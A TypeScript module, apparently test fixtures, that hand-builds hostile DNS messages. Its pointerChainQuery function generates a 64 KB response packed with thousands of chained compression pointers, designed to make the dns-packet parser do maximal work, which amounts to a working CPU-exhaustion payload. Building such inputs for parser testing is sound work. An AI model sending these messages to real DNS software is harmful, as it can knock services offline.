// Hostile DNS messages built byte by byte: what a DNS library would refuse to encode.

/** The question "a.example IN A" as it sits on the wire. */
export const QUESTION_A_EXAMPLE = Buffer.from([1, 0x61, 7, 0x65, 0x78, 0x61, 0x6d, 0x70, 0x6c, 0x65, 0, 0, 1, 0, 1]);

export interface HeaderCounts {
  id?: number;
  flags?: number;
  qdcount?: number;
  ancount?: number;
  nscount?: number;
  arcount?: number;
}

export function dnsHeader(counts: HeaderCounts): Buffer {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(counts.id ?? 0x1234, 0);
  header.writeUInt16BE(counts.flags ?? 0x0100, 2);
  header.writeUInt16BE(counts.qdcount ?? 1, 4);
  header.writeUInt16BE(counts.ancount ?? 0, 6);
  header.writeUInt16BE(counts.nscount ?? 0, 8);
  header.writeUInt16BE(counts.arcount ?? 0, 10);
  return header;
}

/**
 * A query for a.example whose answer section is built to cost dns-packet the most work per byte: the
 * first record's data is a chain of `chain` compression pointers, each pointing at the one before it
 * (dns-packet only checks that a pointer goes backwards), and `records` more records are each named by
 * a pointer to the top of the chain. Pointers reach 14 bits, so the chain lives in the first 16 KB and
 * the records fill the rest of a 64 KB message.
 */
export function pointerChainQuery(chain = 8160, records = 4090): Buffer {
  const rdataAt = 12 + QUESTION_A_EXAMPLE.length + 11;
  const message = Buffer.alloc(rdataAt + 2 * chain + 12 * records);
  dnsHeader({ ancount: records + 1 }).copy(message, 0);
  QUESTION_A_EXAMPLE.copy(message, 12);
  // Record 1: root name, type 0xff00 (unknown to dns-packet: opaque data), class IN, TTL 0, the chain.
  const first = 12 + QUESTION_A_EXAMPLE.length;
  message.writeUInt16BE(0xff00, first + 1);
  message.writeUInt16BE(1, first + 3);
  message.writeUInt16BE(2 * chain, first + 9);
  // The chain's bottom is the root label (two zero bytes); each later pair points two bytes back.
  for (let k = 1; k < chain; k++) message.writeUInt16BE(0xc000 | (rdataAt + 2 * (k - 1)), rdataAt + 2 * k);
  const top = rdataAt + 2 * (chain - 1);
  for (let i = 0, at = rdataAt + 2 * chain; i < records; i++, at += 12) {
    message.writeUInt16BE(0xc000 | top, at);
    message.writeUInt16BE(0xff00, at + 2);
    message.writeUInt16BE(1, at + 4);
  }
  return message;
}
